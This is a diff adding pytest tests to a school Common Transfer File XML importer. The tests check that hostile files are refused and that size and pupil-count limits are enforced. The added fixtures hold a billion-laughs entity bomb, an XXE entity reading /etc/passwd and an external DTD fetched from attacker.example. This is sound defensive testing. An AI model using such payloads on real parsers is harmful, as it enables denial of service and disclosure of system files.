@@ -367,6 +367,57 @@ class TestCTF:
 		_h, pupils, problems = ctf.parse(content, TODAY)
 		assert pupils == [] and message in problems[0].render()
 
+	# Hostile files as they are written in the wild (OWASP XXE Prevention Cheat Sheet; CWE-776, CWE-611):
+	# each is refused before anything is expanded or fetched, with the problem naming the CTF.
+	BILLION_LAUGHS = (
+		'<?xml version="1.0"?>\n<!DOCTYPE CTfile [\n <!ENTITY lol "lol">\n'
+		+ "".join(
+			f' <!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 1 else "")) * 10}">\n'.replace("&lol0;", "&lol;")
+			for i in range(1, 10)
+		)
+		+ "]>\n<CTfile><Header/><CTFpupilData><Pupil><Surname>&lol9;</Surname></Pupil></CTFpupilData></CTfile>"
+	)
+	XXE = (
+		'<?xml version="1.0" encoding="UTF-8"?>\n'
+		'<!DOCTYPE CTfile [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>\n'
+		"<CTfile><Header/><CTFpupilData><Pupil><Surname>&xxe;</Surname></Pupil></CTFpupilData></CTfile>"
+	)
+	EXTERNAL_DTD = (
+		'<?xml version="1.0" encoding="UTF-8"?>\n'
+		'<!DOCTYPE CTfile SYSTEM "http://attacker.example/ctf.dtd">\n'
+		"<CTfile><Header/><CTFpupilData><Pupil><Surname>&remote;</Surname></Pupil></CTFpupilData></CTfile>"
+	)
+
+	@pytest.mark.parametrize("content", [BILLION_LAUGHS, XXE, EXTERNAL_DTD], ids=["laughs", "xxe", "dtd"])
+	def test_a_hostile_file_is_refused_before_it_is_expanded(self, content):
+		header, pupils, problems = ctf.parse(content, TODAY)
+		assert (header, pupils) == ({}, [])
+		assert [(p.field, p.kind) for p in problems] == [("ctf", "ctf")]
+		assert problems[0].render() == "The file declares a DOCTYPE, which a CTF never does"
+
+	def test_a_genuine_ctf_still_parses_with_its_declaration_and_namespace_free_tags(self):
+		header, pupils, problems = ctf.parse(export().encode("utf-8"), TODAY)
+		assert problems == [] and len(pupils) == 2 and header["version"] == "24.0"
+
+	def test_a_file_over_the_size_bound_is_refused_saying_the_bound(self):
+		big = export() + " " * (ctf.MAX_BYTES + 1 - len(export()))
+		_h, pupils, problems = ctf.parse(big, TODAY)
+		assert pupils == [] and problems[0].field == "ctf"
+		assert problems[0].render() == "The file is 20.0 MB; a CTF import takes at most 20 MB"
+		assert ctf.parse(big[:-1], TODAY)[2] == []  # at the bound it is read
+
+	def test_a_file_over_the_pupil_bound_is_refused_saying_the_bound(self, monkeypatch):
+		monkeypatch.setattr(ctf, "MAX_PUPILS", 1)
+		_h, pupils, problems = ctf.parse(export(), TODAY)
+		assert (
+			pupils == [] and problems[0].render() == "The file holds 2 pupils; a CTF import takes at most 1"
+		)
+		assert ctf.MAX_PUPILS == 1 and ctf.parse(export(PUPILS[:1]), TODAY)[2] == []
+
+	def test_the_bounds_sit_above_a_whole_secondary_roll(self):
+		# a 2,000-pupil roll with contacts is about 5 MB; the bounds leave room for an all-through trust
+		assert (ctf.MAX_BYTES, ctf.MAX_PUPILS) == (20 * 2**20, 10_000)
+
 	def test_relationship_and_year_codes(self):
 		assert ctf.relationship_code("Grandmother") == "REL" and ctf.relationship_code("Neighbour") == "OTH"
 		assert ctf.year_group_of("R") == "Reception" and ctf.year_group_of("15") is None
